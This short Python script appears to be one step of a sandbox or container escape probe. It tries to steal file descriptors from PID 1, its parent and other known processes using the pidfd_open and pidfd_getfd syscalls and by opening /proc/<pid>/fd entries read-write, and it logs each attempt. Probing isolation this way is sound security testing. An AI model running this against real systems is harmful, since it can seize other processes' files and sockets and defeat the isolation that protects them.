from attaque import *

call()
PIDFD_OPEN, PIDFD_GETFD = 434, 438
for pid in [1, os.getppid(), *KNOWN.get("pids", [])]:
    if pid == os.getpid():
        continue
    try:
        target = syscall(PIDFD_OPEN, pid, 0)
    except OSError:
        continue
    for fd in range(64):
        attempt(7, f"took descriptor {fd} of {pid}", syscall, PIDFD_GETFD, target, fd, 0)
        if fd > 2:  # its first three are our own
            attempt(7, f"opened fd {fd} of {pid}", os.open, f"/proc/{pid}/fd/{fd}", os.O_RDWR)
tried(7, "every process around")
